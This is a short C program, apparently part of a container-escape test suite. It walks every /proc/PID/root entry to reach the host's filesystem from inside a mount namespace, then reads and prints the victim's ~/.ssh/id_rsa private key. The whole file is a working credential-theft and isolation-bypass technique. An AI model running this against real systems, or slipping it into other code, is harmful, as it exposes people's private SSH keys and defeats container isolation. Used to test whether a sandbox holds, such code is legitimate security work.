/* proc-root-walk: every process's root directory is reachable as
 * /proc/PID/root; one whose root is the host's shows the host's files
 * whatever the caller's mount namespace.  Try each until the victim's SSH
 * key reads. */
#include <ctype.h>
#include <dirent.h>
#include <stdio.h>

#include "targets.h"

int main(int argc, char **argv)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	targets_load(argc, argv);
	while (d && (e = readdir(d))) {
		char path[1400], buf[4096];
		FILE *f;
		size_t n;

		if (!isdigit((unsigned char)e->d_name[0]))
			continue;
		snprintf(path, sizeof(path), "/proc/%s/root%s/.ssh/id_rsa",
		         e->d_name, target("T_HOME"));
		if (!(f = fopen(path, "r")))
			continue;
		while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
			fwrite(buf, 1, n, stdout);
		fclose(f);
		printf("(through /proc/%s/root)\n", e->d_name);
		break;
	}
	if (d)
		closedir(d);
	return 0;
}
